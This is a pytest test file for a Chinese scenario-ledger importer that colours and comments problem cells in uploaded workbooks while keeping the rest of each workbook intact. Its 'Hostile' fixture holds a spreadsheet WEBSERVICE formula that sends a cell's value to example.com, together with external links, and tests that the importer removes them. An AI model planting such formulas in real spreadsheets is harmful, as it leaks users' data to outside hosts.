"""The clerk's own workbook handed back: coloured, commented, otherwise as it was, and read again as if untouched."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet.datavalidation import DataValidation

from importers import marked, preview, slip, template
from importers.forms import LEDGER
from importers.marked import Handed
from importers.marks import COLOURS
from importers.mending import Mended
from importers.preview import Preview, Verdict
from importers.template import Occasion
from importers.workbook import Cell, Sheet
from scenario_db import ledger
from scenario_db.changes import Origin
from scenario_db.codes import Role, Source, Tier
from scenario_db.database import Database
from scenario_db.problems import Level, Place, Problem
from scenario_db.records import Scenario
from scenario_db.roles import Person
from scenario_db.wording import Words, entries
from tests.sheets import csv_text, drawn, ods, parts_of, refused, saved, workbook, xls, xlsx, zipped

SAY, ENGLISH = Words("zh"), Words("en")
OFFICE = Person("办公室", Role.OFFICE)
TODAY = date(2026, 11, 22)
FILE = "上报.xlsx"

LEDGER_OF_TWO = drawn(
    """
    场景名称 | 牵头单位 | 库别 | 计划开工时间 | 总投资（万元）
    停车一张图 | 市城管局 | 建设 | 2025年13月 | 300
    泊位共享 | 市城管局 | 建设 | 2025年3月 | 很多
    """
)


def bad(cell: str, level: Level = Level.ERROR, kind: str = "not_a_date", sheet: str = "台账") -> Problem:
    return Problem(kind, Place(FILE, sheet, cell), {"value": "2025年13月", "heading": "计划开工时间"}, level)


def handed_back(data: bytes, *problems: Problem, say: Words = SAY) -> bytes:
    found = marked.workbook(data, FILE, problems or (bad("D2"),), say)
    assert isinstance(found, bytes), found
    return found


def opened(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data), keep_vba=b"vbaProject" in data)


def data_sheets(data: bytes) -> list[tuple[str, list[list[Cell]]]]:
    """What the reader takes for data: all sheets but those that we have put there."""
    return [(it.name, list(it.rows)) for it in workbook(data).sheets if not is_ours(it)]


def is_ours(sheet: Sheet) -> bool:
    return (
        refused(sheet) == "enclosed_sheet" if str(sheet.rows[0][0]).startswith(("问题清单", "What is wrong")) else False
    )


def colour(data: bytes, cell: str, sheet: str = "台账") -> str:
    fill = opened(data)[sheet][cell].fill
    return fill.fgColor.rgb if fill.fill_type else ""


# Marks


@pytest.mark.confined
def test_a_bad_cell_is_coloured_by_its_level_and_says_what_is_wrong() -> None:
    back = handed_back(xlsx(LEDGER_OF_TWO), bad("D2"), bad("E3", Level.WARNING, "not_an_amount"))
    assert [colour(back, cell) for cell in ("D2", "E3", "D3")] == [COLOURS[Level.ERROR], COLOURS[Level.WARNING], ""]
    comment = opened(back)["台账"]["D2"].comment
    assert comment
    assert comment.text == SAY.problem(bad("D2"))


def test_the_sentence_is_in_the_language_of_the_person() -> None:
    comment = opened(handed_back(xlsx(LEDGER_OF_TWO), say=ENGLISH))["台账"]["D2"].comment
    assert comment
    assert comment.text == ENGLISH.problem(bad("D2"))


def test_several_problems_of_one_cell_share_its_comment_and_the_worst_its_colour() -> None:
    back = handed_back(xlsx(LEDGER_OF_TWO), bad("D2", Level.WARNING, "not_an_amount"), bad("D2"))
    comment = opened(back)["台账"]["D2"].comment
    assert comment
    assert len(comment.text.splitlines()) == 2
    assert colour(back, "D2") == COLOURS[Level.ERROR]


def test_the_first_sheet_lists_the_trouble_with_links_into_the_workbook() -> None:
    book = opened(
        handed_back(xlsx(LEDGER_OF_TWO), bad("D2"), Problem("missing_column", Place(FILE, "台账"), {"heading": "x"}))
    )
    sheet = book.worksheets[0]
    links = {row[1].value: row[1].hyperlink for row in sheet.iter_rows(min_row=4) if row[1].value}
    assert book.active == sheet
    assert set(links) == {"台账!D2", "台账"}
    assert links["台账!D2"].location == "'台账'!D2"
    assert not links["台账!D2"].target
    assert links["台账"] is None


def test_a_problem_with_the_whole_file_is_listed_without_a_mark() -> None:
    back = handed_back(xlsx(LEDGER_OF_TWO), Problem("tier_unknown", Place(FILE, "台账")))
    assert opened(back).worksheets[0]["C4"].value == SAY("problem.tier_unknown")
    assert opened(back)["台账"]["A2"].comment is None


def test_a_merged_cell_is_marked_where_it_shows() -> None:
    grid = [["场景名称", "牵头单位"], ["停车一张图", "市城管局"], ["泊位共享", "^"]]
    assert colour(handed_back(xlsx(grid), bad("B3")), "B2") == COLOURS[Level.ERROR]


# All else stays


def well_kept(book: openpyxl.Workbook) -> None:
    """A workbook that somebody has taken trouble with."""
    sheet = book["台账"]
    sheet["A2"].font = Font(bold=True, color="FFFF0000")
    sheet["D2"].fill = PatternFill("solid", fgColor="FF00FF00")
    sheet["D2"].comment = Comment("请核实", "李四")
    sheet["A2"].number_format = "@"
    sheet.column_dimensions["A"].width = 41
    sheet.freeze_panes = "B2"
    sheet.merge_cells("A5:C5")
    book.create_sheet("附表")["A1"] = "别的内容"


def test_styles_widths_merges_and_other_sheets_stay() -> None:
    book = opened(handed_back(xlsx(LEDGER_OF_TWO, change=well_kept)))
    sheet = book["台账"]
    assert sheet["A2"].font.bold
    assert sheet["A2"].font.color.rgb == "FFFF0000"
    assert sheet["A2"].number_format == "@"
    assert sheet.column_dimensions["A"].width == 41
    assert sheet.freeze_panes == "B2"
    assert "A5:C5" in {str(area) for area in sheet.merged_cells.ranges}
    assert book["附表"]["A1"].value == "别的内容"


def test_a_comment_of_the_clerks_own_stays_below_ours() -> None:
    comment = opened(handed_back(xlsx(LEDGER_OF_TWO, change=well_kept)))["台账"]["D2"].comment
    assert comment
    assert comment.text.endswith("请核实")


def test_macros_stay_where_they_are_and_are_never_run() -> None:
    parts = parts_of(xlsx(LEDGER_OF_TWO))
    types = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    types = types.replace(b"openxmlformats-officedocument.ms-excel", b"ms-excel").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    parts |= {"[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf macros"}
    data = zipped(parts)
    assert marked.suffix(data) == ".xlsm"
    assert parts_of(handed_back(data))["xl/vbaProject.bin"] == b"\xd0\xcf macros"


# Again


def test_what_comes_back_is_read_as_the_same_rows() -> None:
    data = xlsx(LEDGER_OF_TWO, change=well_kept)
    assert data_sheets(handed_back(data)) == data_sheets(data)


def test_the_list_is_known_as_ours_in_either_language() -> None:
    for say in (SAY, ENGLISH):
        assert refused(workbook(handed_back(xlsx(LEDGER_OF_TWO), say=say)).sheets[0]) == "enclosed_sheet"


@pytest.mark.parametrize("again", [SAY, ENGLISH], ids=["zh", "en"])
def test_marks_of_an_earlier_round_are_gone_in_the_next(again: Words) -> None:
    first = handed_back(xlsx(LEDGER_OF_TWO, change=well_kept), bad("D2"), bad("A3"))
    second = handed_back(first, bad("E3"), say=again)
    assert colour(second, "E3") == COLOURS[Level.ERROR]
    assert [colour(second, cell) for cell in ("D2", "A3")] == ["FF00FF00", ""]
    comments = {cell: opened(second)["台账"][cell].comment for cell in ("D2", "A3")}
    assert comments["A3"] is None
    assert comments["D2"].text == "请核实"
    assert len(opened(second).worksheets) == 3


def test_marking_twice_is_marking_once() -> None:
    once = handed_back(xlsx(LEDGER_OF_TWO, change=well_kept))
    twice = handed_back(once)
    assert [sheet.title for sheet in opened(twice)] == [sheet.title for sheet in opened(once)]
    for cell in ("A2", "D2"):
        assert colour(twice, cell) == colour(once, cell)
    assert opened(twice)["台账"]["D2"].comment.text == opened(once)["台账"]["D2"].comment.text


def test_a_book_without_trouble_loses_its_marks() -> None:
    clean = marked.workbook(handed_back(xlsx(LEDGER_OF_TWO)), FILE, (), SAY)
    assert isinstance(clean, bytes)
    assert colour(clean, "D2") == ""


# Other kinds


@pytest.mark.confined
@pytest.mark.parametrize(
    "made", [xls, ods, lambda grid: csv_text(grid).encode("gb18030")], ids=["xls", "ods", "csv in GB18030"]
)
def test_what_cannot_be_kept_is_made_anew_with_the_same_cells(made: Callable[[object], bytes]) -> None:
    data = made(LEDGER_OF_TWO)
    name = workbook(data, FILE).sheets[0].name
    back = handed_back(data, bad("D2", sheet=name))
    assert data_sheets(back)[0][1] == workbook(data).sheets[0].rows
    assert colour(back, "D2", name) == COLOURS[Level.ERROR]


@pytest.mark.confined
def test_a_file_that_cannot_be_read_is_a_problem_and_no_traceback() -> None:
    found = marked.workbook(b"PK\x03\x04 torn", FILE, [bad("D2")], SAY)
    assert isinstance(found, Problem)
    assert found.kind == "damaged_file"


# Hostile


def hostile(book: openpyxl.Workbook) -> None:
    sheet = book["台账"]
    sheet["F2"] = '=WEBSERVICE("https://example.com/?"&A2)'
    sheet["G2"] = "点我"
    sheet["G2"].hyperlink = "https://example.com/"
    sheet["H2"] = "=[1]别处!A1"
    rule = DataValidation(type="list", formula1="[1]别处!$A$1:$A$9")
    rule.add("B2")
    sheet.add_data_validation(rule)


def test_nothing_that_lives_or_leads_elsewhere_comes_back() -> None:
    parts = parts_of(handed_back(xlsx(LEDGER_OF_TWO, change=hostile)))
    text = b"".join(parts.values())
    assert [name for name in parts if "external" in name.casefold()] == []
    assert b"example.com" not in text
    assert b"<f>" not in text
    assert b"[1]" not in text


def test_a_text_that_looks_like_a_formula_stays_a_text() -> None:
    grid = [["场景名称", "备注"], ["停车一张图", None]]

    def text_of_a_formula(book: openpyxl.Workbook) -> None:
        cell = book["台账"]["B2"]
        cell.value, cell.data_type = "=1+1", "s"

    data = xlsx(grid, change=text_of_a_formula)
    told = Problem("not_a_date", Place(FILE, "台账", "B2"), {"value": "=1+1", "heading": "=x"})
    assert data_sheets(handed_back(data, told)) == data_sheets(data)


def test_a_cell_far_out_is_not_made_by_marking_it() -> None:
    assert "XFE9999999" not in str(opened(handed_back(xlsx(LEDGER_OF_TWO), bad("ZZZ9999999"))).worksheets[1].dimensions)


# Only the refused rows


@pytest.fixture
def look(db: Database) -> Callable[[bytes], Preview]:
    return lambda data: preview.of(db, data, FILE, by=OFFICE, day=TODAY)


MESSY = """
全市应用场景库台账（2026年） | < | < | < | <
填报单位：市城管局 | | | | 单位：亿元
场景名称 | 牵头单位 | 计划开工时间 | 总投资 | 备注
一、建设一批 | | | |
停车一张图 | 市城管局 | 2025年3月 | 3 | 甲
泊位共享 | ^ | 2025年13月 | 4 | 乙
二、储备一批 | | | |
燃气一张网 | 市住建局 | 2025年4月 | 5 | 丙
合计 | | | 12 |
"""


def only_refused(data: bytes, found: Preview) -> bytes:
    left = marked.refused_rows(data, found, SAY)
    assert isinstance(left, bytes)
    return left


def test_only_the_refused_rows_are_left_under_their_title_and_section(look: Callable[[bytes], Preview]) -> None:
    data = xlsx(drawn(MESSY))
    [(_, rows)] = data_sheets(only_refused(data, look(data)))
    assert [row[0] for row in rows] == [
        "全市应用场景库台账（2026年）", "填报单位：市城管局", "场景名称", "一、建设一批", "泊位共享"
    ]  # fmt: skip
    assert rows[1][4] == "单位：亿元"
    assert rows[4][1] == "市城管局"


def test_the_marks_move_with_the_rows(look: Callable[[bytes], Preview]) -> None:
    data = xlsx(drawn(MESSY))
    assert colour(only_refused(data, look(data)), "C5") == COLOURS[Level.ERROR]


@pytest.mark.confined
def test_what_was_refused_is_refused_again_and_enters_when_mended(look: Callable[[bytes], Preview]) -> None:
    data = xlsx(drawn(MESSY))
    left = only_refused(data, look(data))
    assert [(row.name, row.verdict) for row in look(left).rows] == [("泊位共享", Verdict.REFUSED)]
    book = opened(left)
    book["台账"]["C5"] = "2025年12月"
    assert [(row.name, row.verdict) for row in look(saved(book)).rows] == [("泊位共享", Verdict.NEW)]


def test_the_slip_travels_on_with_the_marks_and_with_the_refused_rows(db: Database) -> None:
    record = Scenario(id="s1", name="停车一张图", code="CJ-1", tier=Tier.BUILD)
    ledger.record(db, ledger.compare(db, ledger.wanted([record])), by=OFFICE, origin=Origin(Source.FORM))
    data = template.prefilled(db, LEDGER, SAY, Occasion(TODAY), by=OFFICE)
    book = opened(data)
    sheet = book.worksheets[0]
    column = next(cell.column_letter for cell in sheet[3] if cell.value == "计划开工时间")
    sheet[f"{column}4"] = "2025年13月"
    data = saved(book)
    found = preview.of(db, data, FILE, by=OFFICE, day=TODAY)
    given = slip.read(workbook(data))
    assert given
    assert found.counts["refused"] == 1
    assert slip.read(workbook(handed_back(data, *found.problems))) == given
    assert slip.read(workbook(only_refused(data, found))) == given


# What does not come back as it was


@pytest.mark.parametrize("make", [xlsx, xls, ods])
def test_cells_mended_on_the_page_come_back_mended(make: Callable[..., bytes]) -> None:
    sheet = workbook(make(LEDGER_OF_TWO)).sheets[0].name
    found = marked.handed(
        make(LEDGER_OF_TWO), FILE, [bad("D2", sheet=sheet)], SAY, [Mended(sheet, "E3", "很多", "500")]
    )
    assert isinstance(found, Handed)
    assert opened(found.content)[sheet]["E3"].value == "500"
    assert opened(found.content)[sheet]["E2"].value == 300


def test_a_workbook_that_was_made_anew_says_so() -> None:
    kept, anew = (marked.handed(make(LEDGER_OF_TWO), FILE, [bad("D2")], SAY) for make in (xlsx, xls))
    assert isinstance(kept, Handed)
    assert isinstance(anew, Handed)
    assert (kept.rebuilt, kept.lost, anew.rebuilt) == (False, (), True)


def test_what_may_not_all_come_along_is_named() -> None:
    def draw(book: openpyxl.Workbook) -> None:
        chart = BarChart()
        chart.add_data(Reference(book.worksheets[0], min_col=5, min_row=1, max_row=3), titles_from_data=True)
        book.worksheets[0].add_chart(chart, "H2")

    found = marked.handed(xlsx(LEDGER_OF_TWO, change=draw), FILE, [bad("D2")], SAY)
    assert isinstance(found, Handed)
    assert found.lost == ("charts", "drawings")
    assert {f"upload.lost_{name}" for name in marked.LOST} <= set(entries())
